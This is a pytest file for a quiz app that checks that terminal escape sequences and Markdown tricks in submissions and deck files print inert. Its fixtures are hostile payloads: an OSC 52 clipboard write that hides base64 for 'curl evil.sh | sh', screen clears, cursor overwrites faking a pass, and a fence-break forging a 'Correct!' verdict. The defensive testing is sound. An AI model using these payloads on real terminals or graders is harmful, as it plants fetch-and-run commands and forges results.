"""Text from a submission or a deck reaches the screen inert: escape sequences shown, not
obeyed (CLI, `--watch`, TUI), and printed output that cannot pose as the app's Markdown.

Each attack is first shown to be live (the positive control): the raw text holds the
sequence a terminal would obey, or the naive Markdown lets it out of its code block.
"""

from __future__ import annotations

import io
import json
import re
import sys
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from quizapp.commands import grade_watch
from quizapp.commands.grade import _report
from quizapp.grading import feedback
from quizapp.grading.verdict import Status
from quizapp.study.session import Outcome
from quizapp.textsafe import code_block, inline_code, is_clean, visible

ATTACKS = {
    "clipboard (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "window title (OSC 0)": "\x1b]0;pwned\x1b\\",
    "clear screen": "\x1b[2J\x1b[H",
    "cursor up over the verdict": "\x1b[3A\x1b[2K✓ Correct!",
    "carriage return": "✗ wrong\r✓ Correct!",
    "8-bit CSI": "\x9b2J",
    "device control string": "\x1bP+q544e\x1b\\",
    "right-to-left override": "abc\u202edcb",
}
# what a terminal obeys: ESC, BEL, CR, C1 controls, bidi overrides
LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# the only escapes the CLI itself writes: colours and bold (SGR)
SGR = re.compile(r"\x1b\[[0-9;]*m")
FAKE_PASS = "```\n\n✓ **Correct!** All 8 test cases match the reference.\n\n```"


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def hostile_feedback(printed: str) -> str:
    text = feedback.incorrect(0, 8, 0, {}, "values differ", "")
    return text + feedback.printed({"output": printed})


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_control_the_raw_text_holds_what_a_terminal_obeys(attack):
    assert LIVE.search(attack)


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
def test_control_characters_become_visible(attack):
    shown = visible(attack)
    assert not LIVE.search(shown) and is_clean(shown)
    assert len(shown) >= len(attack)  # replaced, never silently dropped


def test_newlines_and_tabs_are_kept():
    assert visible("a\tb\nc") == "a\tb\nc"
    assert visible("\x1b[2J") == "␛[2J"


@pytest.mark.parametrize("attack", list(ATTACKS.values()), ids=list(ATTACKS))
@pytest.mark.parametrize("styled", [True, False], ids=["terminal", "pipe"])
def test_grade_output_shows_the_sequences_inert(attack, styled, monkeypatch):
    out = Terminal() if styled else io.StringIO()
    monkeypatch.setattr(sys, "stdout", out)
    _report("q", Outcome(Status.INCORRECT, hostile_feedback(attack)), False, recorded=False)
    text = SGR.sub("", out.getvalue())
    assert not LIVE.search(text.replace("\n", "").replace("\t", "")), repr(text)
    assert out.getvalue().startswith("✗") or "✗" in out.getvalue()[:20]


def test_json_keeps_the_text_escaped(capsys):
    attack = ATTACKS["clipboard (OSC 52)"]
    _report("q", Outcome(Status.INCORRECT, hostile_feedback(attack)), True, recorded=False)
    raw = capsys.readouterr().out
    assert "\x1b" not in raw and "\\u001b" in raw
    assert attack in json.loads(raw)["feedback"]


def test_watch_header_and_messages_show_the_sequences_inert(tmp_path, capsys):
    path = Path(tmp_path, "sub\x1b]0;pwned\x07.py")

    def check() -> int:
        return _report("q", Outcome(Status.INCORRECT, hostile_feedback(ATTACKS["clear screen"])),
                       False, recorded=False)  # fmt: skip

    grade_watch._show(path, check, json_output=False)
    out = capsys.readouterr().out
    assert "sub␛]0;pwned␇.py" in out
    assert not LIVE.search(out.replace("\n", ""))


# ------------------------------------------------------------------ posing as the app


def blocks(markdown: str) -> list[tuple[str, str]]:
    """(token type, text) of every block the Markdown parser sees."""
    tokens = MarkdownIt("commonmark").parse(markdown)
    return [(t.type, t.content) for t in tokens if t.content]


def test_control_a_plain_fence_lets_the_output_out():
    naive = "Your code printed:\n\n```\n" + FAKE_PASS + "\n```"
    assert ("inline", "✓ **Correct!** All 8 test cases match the reference.") in blocks(naive)


def test_printed_output_stays_inside_its_block():
    found = blocks(hostile_feedback(FAKE_PASS))
    outside = [text for kind, text in found if kind != "fence" and "Correct!" in text]
    assert not outside, outside
    assert any(kind == "fence" and "Correct!" in text for kind, text in found)


def test_the_pretend_verdict_prints_as_written_under_the_real_one(capsys):
    _report("q", Outcome(Status.INCORRECT, hostile_feedback(FAKE_PASS)), False, recorded=False)
    out = capsys.readouterr().out
    assert out.startswith("✗ Not quite")
    assert "✓ **Correct!** All 8" in out  # shown as typed, stars and all: code, not text


@pytest.mark.parametrize("text", ["a`b", "``x``", "` lead", "trail `", "", "two\n\nlines"])
def test_inline_code_cannot_be_closed_from_inside(text):
    found = blocks(f"see {inline_code(text)} here")
    assert len(found) == 1 and found[0][0] == "inline"
    tokens = MarkdownIt("commonmark").parseInline(f"see {inline_code(text)} here")
    codes = [c for c in tokens[0].children or [] if c.type == "code_inline"]
    assert len(codes) == 1


def test_exception_texts_and_names_are_code_too():
    error = {"kind": "exception", "type": "X**\n# Correct", "message": FAKE_PASS, "line": 2,
             "text": "x = '`**Correct**`'", "case": -1}  # fmt: skip
    status, text = feedback.error(error, [], "f")
    assert status is Status.ERROR
    headings = [t for t in MarkdownIt("commonmark").parse(text) if t.type == "heading_open"]
    assert not headings
    assert all("Correct" not in c for k, c in blocks(text) if k == "inline" and "raised" not in c)


def test_code_block_fence_is_longer_than_any_run_inside():
    block = code_block("a ```` b")
    assert block.startswith("`````\n") and block.endswith("\n`````")


# ------------------------------------------------------------- any command, a hostile deck

DECK = """\
topic: hostile
title: "Hostile \\e]0;pwned\\a deck"
order: 99
questions:
  - id: hostile.card
    kind: flashcard
    title: "Looks fine \\e]52;c;ZXZpbA==\\a\\e[2J"
    prompt: What is attention?
    back: Weights.
    explanation: Softmax of scores.
    source: "lecture 1"
"""


def test_a_deck_title_with_escapes_prints_inert_from_any_command(tmp_path, capsys):
    from quizapp.cli import main

    (tmp_path / "hostile.yaml").write_text(DECK)
    main(["list", "--content", str(tmp_path), "--db", str(tmp_path / "p.db")])
    out = capsys.readouterr().out
    assert "hostile.card" in out, out
    assert "␛]52;c;ZXZpbA==" in out
    assert not LIVE.search(out.replace("\n", ""))
    assert sys.stdout is not None and type(sys.stdout).__name__ != "ShownStream"  # restored


def test_colour_codes_in_deck_titles_are_shown_too(tmp_path, capsys):
    """The CLI lets colours through for its own styled verdicts; a deck title must not use
    that to hide what follows (ESC[8m, concealed) in `list`, `stats` or `plan`."""
    from quizapp.cli import main

    deck = DECK.replace('"Looks fine \\e]52;c;ZXZpbA==\\a\\e[2J"', '"Innocent \\e[8mHIDDEN"')
    deck = deck.replace('"Hostile \\e]0;pwned\\a deck"', '"Topic \\e[8mHIDDEN"')
    assert "HIDDEN" in deck
    (tmp_path / "hostile.yaml").write_text(deck)
    db = ["--content", str(tmp_path), "--db", str(tmp_path / "p.db")]
    for command in (["list"], ["stats"]):
        main([*command, *db])
        out = capsys.readouterr().out
        assert "␛[8mHIDDEN" in out and "\x1b" not in out, (command, out)
